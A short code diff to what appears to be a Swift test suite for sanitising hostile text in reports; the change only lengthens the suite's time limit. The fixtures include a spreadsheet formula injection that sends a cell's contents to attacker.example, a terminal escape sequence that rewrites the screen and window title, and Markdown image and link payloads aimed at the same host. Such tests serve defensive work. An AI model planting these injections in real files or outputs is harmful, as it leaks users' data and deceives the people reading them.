@@ -4,7 +4,7 @@ import Testing
 /// Text from a capture written by someone hostile, through every report people and programs
 /// open: spreadsheet formulas, terminal escapes, Markdown links and images, characters that
 /// reorder text.
-@Suite(.timeLimit(.minutes(2))) struct HostileTextTests {
+@Suite(.timeLimit(.minutes(10))) struct HostileTextTests {
     static let formula = #"=HYPERLINK("http://attacker.example/?q="&A1,"Click")"#
     static let terminal = "\u{1B}[2J\u{1B}]0;pwned\u{07}follower"
     static let markdown = "![x](http://attacker.example/p.png) [Click](https://x)"
